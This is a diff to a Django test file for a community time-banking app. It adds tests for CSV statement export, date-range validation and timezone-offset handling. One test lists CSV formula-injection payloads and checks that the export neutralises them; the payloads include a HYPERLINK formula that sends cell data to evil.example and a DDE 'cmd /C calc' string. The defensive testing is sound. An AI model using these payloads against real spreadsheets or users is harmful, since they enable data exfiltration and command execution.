@@ -2,7 +2,12 @@
 
 from __future__ import annotations
 
+import csv
+import io
+import re
 import uuid
+from datetime import timedelta
+from datetime import timezone as dt_timezone
 from typing import Any
 
 import pytest
@@ -10,6 +15,7 @@ from django.db import connection
 from django.test import Client
 from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
+from django.utils import timezone
 from django.utils.html import escape
 
 from coproduce.communities.models import Community, Membership
@@ -52,9 +58,49 @@ def test_the_statement_exports_as_csv(
     pay(coordinator, account_of(member), account_of(make_member(community)), 90, memo="=SUM(A1)")
     response = member_client.get(url("statement_csv", community))
     assert response["Content-Type"].startswith("text/csv")
-    body = response.content.decode()
-    assert body.splitlines()[0].startswith("Date,Kind,From or to,Note,Change,Balance")
-    assert "'=SUM(A1)" in body and "\u22121:30" in body and ",-90,-90," in body
+    header, line = csv.reader(io.StringIO(response.content.decode()))
+    assert header[:6] == ["Date", "Kind", "From or to", "Note", "Change", "Balance"]
+    assert line[3] == "'=SUM(A1)" and line[4] == line[5] == "\u22121:30"
+    assert ",-90,-90," in response.content.decode()  # minutes stay numbers, unquoted
+
+
+FORMULAS = {
+    "Thanks;=1+2": "Thanks;'=1+2",
+    '=HYPERLINK("https://evil.example/?x="&A1,"Click")': (
+        '\'=HYPERLINK("https://evil.example/?x="&A1,"Click")'
+    ),
+    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
+    "-1+2": "'-1+2",
+    "+1": "'+1",
+    "Tea,  =1+2": "Tea,  '=1+2",
+    "Tea\t=1": "Tea\t'=1",
+    "\t=1": "'\t'=1",
+    "Line one\r\n@SUM(A1)": "Line one\r\n'@SUM(A1)",
+    "Tea - lovely, thanks; see you": "Tea - lovely, thanks; see you",
+}
+
+
+def test_csv_cells_never_start_a_formula_however_a_spreadsheet_splits_them(
+    community: Community, member: Membership, coordinator: Membership, member_client: Client
+) -> None:
+    """Spreadsheets in many countries split on ";" (or tabs): a note like "Thanks;=1+2" must
+    not become a cell "=1+2" there. Text cells are quoted and every formula character that
+    could start a cell gets an apostrophe; minutes stay numbers."""
+    other = make_member(community, profile__display_name="=cmd|' /C calc'!A0")
+    for memo in FORMULAS:
+        pay(coordinator, account_of(member), account_of(other), 1, memo=memo)
+    body = member_client.get(url("statement_csv", community)).content.decode()
+    rows = list(csv.reader(io.StringIO(body)))[1:]
+    assert [row[3] for row in rows] == list(FORMULAS.values())
+    assert {row[2] for row in rows} == {"'=cmd|' /C calc'!A0"}
+    assert [int(row[6]) for row in rows] == [-1] * len(FORMULAS)
+    for separator in (";", "\t"):
+        for row in csv.reader(io.StringIO(body), delimiter=separator):
+            for cell in row:
+                assert cell.lstrip(" ")[:1] not in "=+-@", (separator, cell)
+    for text_line in body.splitlines():
+        for piece in re.split(r"[;\t]", text_line):
+            assert piece.lstrip(' "')[:1] not in "=+-@", piece
 
 
 def test_statement_files_are_never_stored(
@@ -75,6 +121,38 @@ def test_balance_as_of_a_date_is_shown(
 ) -> None:
     page = member_client.get(url("statement", community), {"as_of": "2024-03-01"})
     assert "Balance at the end of 1 March 2024: 0:00" in page.content.decode()
+
+
+@pytest.mark.parametrize("typed", ["9999-12-31", "0001-01-01", "2201-01-01", "1899-12-31"])
+@pytest.mark.parametrize("field", ["date_from", "date_to", "as_of"])
+def test_dates_outside_1900_to_2200_are_refused_beside_the_field(
+    community: Community, member: Membership, member_client: Client, field: str, typed: str
+) -> None:
+    page = member_client.get(url("statement", community), {field: typed})
+    assert page.status_code == 200
+    html = page.content.decode()
+    assert f'id="id_{field}_error"' in html
+    assert "Choose a date from the year 1900 to the year 2200." in html
+    assert f'value="{typed}"' in html
+    for name, kwargs in (
+        ("statement", {}),
+        ("account_statement", {"pk": account_of(member).pk}),
+    ):
+        download = member_client.get(url(f"{name}_csv", community, **kwargs), {field: typed})
+        assert download.status_code == 302
+        assert download["Location"] == url(name, community, **kwargs) + f"?{field}={typed}"
+
+
+def test_the_first_and_last_days_allowed_are_shown(
+    community: Community, member: Membership, coordinator: Membership, member_client: Client
+) -> None:
+    pay(coordinator, account_of(member), account_of(make_member(community)), 90, memo="Tea")
+    query = {"date_from": "1900-01-01", "date_to": "2200-12-31", "as_of": "2200-12-31"}
+    html = member_client.get(url("statement", community), query).content.decode()
+    assert "Balance at the end of 31 December 2200: \u22121:30" in html and "Tea" in html
+    assert 'min="1900-01-01"' in html and 'max="2200-12-31"' in html
+    download = member_client.get(url("statement_csv", community), query)
+    assert download.status_code == 200 and "Tea" in download.content.decode()
 
 
 def test_giving_twice_with_one_form_pays_once(
@@ -216,6 +294,71 @@ def test_a_coordinator_adds_a_credit_rule_version(
     assert "×1.5" in page.content.decode() and "personal care ×2" in page.content.decode()
 
 
+RULE_FORM = {
+    "window_start": "09:00",
+    "window_end": "17:00",
+    "out_of_hours": "1",
+    "categories": "",
+    "stacking": "multiply",
+    "note": "",
+}
+
+
+def record_form(community: Community, given_at: str) -> dict[str, str]:
+    giver, receiver = make_member(community), make_member(community)
+    return {
+        "kind": "exchange",
+        "debit": f"member:{receiver.pk}",
+        "credit": f"member:{giver.pk}",
+        "minutes": "1:00",
+        "given_at": given_at,
+        "memo": "",
+        "idempotency_key": str(uuid.uuid4()),
+    }
+
+
+@pytest.mark.parametrize("offset", ["-23:15", "+16:00"])
+def test_a_time_typed_with_an_offset_postgresql_cannot_store_is_kept_as_the_same_moment(
+    community: Community, coordinator_client: Client, offset: str
+) -> None:
+    """A browser sends no offset, but anyone can type one; PostgreSQL refuses beyond ±15:59."""
+    moment = (timezone.now() + timedelta(days=10)).replace(second=0, microsecond=0)
+    hours, minutes = int(offset[:3]), int(offset[0] + offset[4:])
+    typed = moment.astimezone(dt_timezone(timedelta(hours=hours, minutes=minutes)))
+    text = typed.strftime("%Y-%m-%dT%H:%M") + offset
+    rules = coordinator_client.post(url("rules", community), {**RULE_FORM, "starts_at": text})
+    assert rules.status_code == 302
+    assert CreditRule.objects.get(community=community, version=2).starts_at == moment
+    past = moment - timedelta(days=20)
+    data = record_form(community, past.astimezone(typed.tzinfo).strftime("%Y-%m-%dT%H:%M") + offset)
+    assert coordinator_client.post(url("transfer_record", community), data).status_code == 302
+    assert Transfer.objects.get(community=community).given_at == past
+    assert coordinator_client.get(url("rules", community)).status_code == 200
+
+
+@pytest.mark.parametrize(
+    "typed",
+    ["9999-12-31T23:59:59-14:00", "9999-12-31T23:59", "0001-01-01T00:00+14:00", "2201-01-01T00:00"],
+)
+def test_times_outside_1900_to_2200_are_refused_beside_the_field(
+    community: Community, coordinator_client: Client, typed: str
+) -> None:
+    """Stored past the year 9999 in UTC, a rule's start could never be read back: the rules
+    page, and every transfer under a rule, would fail for the whole community."""
+    rules = coordinator_client.post(url("rules", community), {**RULE_FORM, "starts_at": typed})
+    record = coordinator_client.post(
+        url("transfer_record", community), record_form(community, typed)
+    )
+    for response, field in ((rules, "starts_at"), (record, "given_at")):
+        assert response.status_code == 400
+        html = response.content.decode()
+        assert f'id="id_{field}_error"' in html and f'value="{typed}"' in html
+        assert "Choose a date from the year 1900 to the year 2200." in html
+    assert not CreditRule.objects.filter(community=community, version=2).exists()
+    assert not Transfer.objects.filter(community=community).exists()
+    assert coordinator_client.get(url("rules", community)).status_code == 200
+
+
 def test_members_read_the_rules_but_cannot_add_one(
     community: Community, member_client: Client
 ) -> None:
@@ -355,7 +498,7 @@ def test_the_record_page_refuses_a_date_out_of_range_with_a_message(
         "debit": f"member:{make_member(community).pk}",
         "credit": f"member:{make_member(community).pk}",
         "minutes": "1:00",
-        "given_at": "9999-12-31T23:30",
+        "given_at": "1950-06-01T10:00",
         "memo": "",
         "idempotency_key": str(uuid.uuid4()),
     }
